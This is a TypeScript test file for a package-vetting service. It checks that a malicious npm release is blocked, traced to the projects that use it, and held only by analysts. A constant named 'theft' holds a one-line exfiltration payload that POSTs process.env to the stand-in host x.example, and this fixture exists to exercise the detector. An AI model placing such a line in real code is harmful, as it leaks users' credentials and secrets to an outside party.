import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, before, test } from 'node:test'
import { writePackage } from '../../../../bench/packages/archive.ts'
import { library, manifest, with_ } from '../../../doors/packages/incidents/incident.ts'
import type { Principal } from '../../../guard/policy/policy.ts'
import { rows } from '../../../jobs/house.ts'
import { testedHouse, type TestedHouse } from '../../../jobs/testing/house.ts'
import { auditStore } from '../../../store/guard/audit-store.ts'
import { newId } from '../../../store/new-id.ts'
import { createApp } from '../../app.ts'
import { openDesk } from '../../desk/open-desk.ts'
import { eventHub } from '../../event-hub.ts'
import type { SignInDesk } from '../../routes/sign-in.ts'
import type { Keeper, Room } from '../room.ts'
import type { PackagesOverview, ReleaseFile } from './contract.ts'
import { packages } from './room.ts'

let tested: TestedHouse
let room: Room
let app: ReturnType<typeof createApp>
let folder: string
const ids = new Map<string, string>()

before(async () => {
  tested = await testedHouse()
  const { house, org } = tested
  folder = mkdtempSync(path.join(tmpdir(), 'sallyport-packages-'))
  const audit = auditStore(house.store, { db: house.store.db, vault: house.vault, clock: house.clock })
  const desk = openDesk(house, { audit, auditKeys: [], version: 'test', faults: [], loadDemo: async () => undefined })
  const report = (error: Error): never => assert.fail(error)
  const keeper: Keeper = {
    house,
    desk,
    hub: eventHub(),
    org,
    name: 'Tested',
    url: 'http://127.0.0.1',
    folder,
    environment: {},
    newId,
    limit: async () => undefined,
    report,
  }
  room = await packages(keeper)
  app = createApp({
    desk,
    rooms: { routes: room.routes, pages: [] },
    signIn: {} as unknown as SignInDesk,
    hub: keeper.hub,
    console: '/nonexistent',
    uploadBytes: 50 << 20,
    version: 'test',
    limit: () => undefined,
    report,
    identify: async (context) => {
      const [name, role] = (context.req.header('x-test-who') ?? '').split('/')
      const id = ids.get(name ?? '')
      return id === undefined || role === undefined
        ? null
        : { actor: { id, org, roles: [role as Principal], doors: null, scopes: null }, name: name ?? '', csrf: null }
    },
  })
  for (const [name, role] of [
    ['ann', 'analyst'],
    ['kim', 'employee'],
  ] as const)
    ids.set(name, (await rows(house).users.insert(org, { email: `${name}@example.com`, name, roles: [role] })).id)
})
after(async () => {
  await room.stop?.()
  await tested.close()
  rmSync(folder, { recursive: true, force: true })
})

const ask = (who: string, method: string, where: string, body?: unknown): Promise<Response> =>
  Promise.resolve(
    app.request(where, {
      method,
      headers: { 'x-test-who': who, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    }),
  )
const pack = (version: string, code: string): string =>
  Buffer.from(
    writePackage([
      ['package.json', Buffer.from(manifest('quiet-lib', version))],
      ['index.js', Buffer.from(code)],
    ]),
  ).toString('base64')
const theft = "require('https').request({ hostname: 'x.example', method: 'POST' }).end(JSON.stringify(process.env));"
const release = '/api/packages/release?name=quiet-lib&version=1.4.1'

test('handed in, judged against the version before, shown with its lines and who holds it', async () => {
  assert.equal(
    (await ask('kim/employee', 'POST', '/api/packages/releases', { archive: pack('1.4.0', library) })).status,
    201,
  )
  const judged = await ask('kim/employee', 'POST', '/api/packages/releases', {
    archive: pack('1.4.1', with_(theft)),
    before: pack('1.4.0', library),
  })
  assert.deepEqual(await judged.json(), { name: 'quiet-lib', version: '1.4.1', verdict: 'block' })
  const lockfile = JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { a: '1' } },
      'node_modules/a': { version: '1.0.0', dependencies: { 'quiet-lib': '1' } },
      'node_modules/quiet-lib': { version: '1.4.1' },
    },
  })
  assert.equal((await ask('kim/employee', 'POST', '/api/packages/projects', { name: 'shop', lockfile })).status, 204)

  const file = (await (await ask('ann/analyst', 'GET', release)).json()) as ReleaseFile
  assert.equal(file.verdict, 'block')
  assert.ok(file.facts?.inserted?.envToNetwork.places.some((place) => place.file === 'index.js'))
  assert.deepEqual(file.embedded, [{ project: 'shop', places: 1, ways: [['a@1.0.0', 'quiet-lib@1.4.1']] }])
  assert.equal(file.pin?.version, '1.4.0')
  assert.deepEqual(
    file.family.map((one) => [one.version, one.relation]),
    [['1.4.0', 'version']],
  )
  const { releases } = (await (await ask('ann/analyst', 'GET', '/api/packages')).json()) as PackagesOverview
  assert.deepEqual(
    releases.map((one) => [one.version, one.verdict, one.projects]),
    [
      ['1.4.1', 'block', ['shop']],
      ['1.4.0', 'allow', []],
    ],
  )
})

test('an analyst decides with a reason and takes it back; an employee does not', async () => {
  const decision = {
    name: 'quiet-lib',
    version: '1.4.1',
    decision: 'hold',
    reason: 'It sends the environment to a stranger.',
  }
  assert.equal((await ask('kim/employee', 'POST', '/api/packages/decisions', decision)).status, 403)
  assert.equal(
    (await ask('ann/analyst', 'POST', '/api/packages/decisions', { ...decision, reason: 'bad' })).status,
    400,
  )
  assert.equal((await ask('ann/analyst', 'POST', '/api/packages/decisions', decision)).status, 204)
  const held = (await (await ask('ann/analyst', 'GET', release)).json()) as ReleaseFile
  assert.equal(held.decision?.byName, 'ann')
  assert.equal((await ask('ann/analyst', 'DELETE', '/api/packages/decisions?name=quiet-lib&version=1.4.1')).status, 204)
  assert.equal(((await (await ask('ann/analyst', 'GET', release)).json()) as ReleaseFile).decision, null)
})

test('what is no archive, no lockfile, no such release', async () => {
  assert.equal((await ask('ann/analyst', 'POST', '/api/packages/releases', { archive: 'AAAA' })).status, 422)
  assert.equal(
    (await ask('ann/analyst', 'POST', '/api/packages/projects', { name: 'x', lockfile: '{"lockfileVersion":9}' }))
      .status,
    400,
  )
  assert.equal((await ask('ann/analyst', 'GET', '/api/packages/release?name=none&version=1.0.0')).status, 404)
})
